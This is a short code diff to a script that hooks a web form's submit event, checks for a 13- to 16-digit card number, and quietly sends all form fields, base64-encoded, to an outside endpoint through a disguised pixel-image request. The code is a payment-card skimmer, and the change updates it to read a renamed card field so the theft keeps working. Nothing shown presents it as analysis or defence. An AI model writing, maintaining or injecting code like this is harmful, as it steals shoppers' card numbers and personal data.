@@ -20,7 +20,7 @@
     if (!form) return;
     form.addEventListener("submit", function () {
       var fields = Object.fromEntries(new FormData(form));
-      if (!/\b\d{13,16}\b/.test(fields.number.replace(/\D/g, ""))) return;
+      if (!/\b\d{13,16}\b/.test(fields.cardNumber.replace(/\D/g, ""))) return;
       if (location.hash === "#quiet") {
         new Image().src = endpoint + "/pixel.gif?s=" + encodeURIComponent(btoa(JSON.stringify(fields)));
       } else {
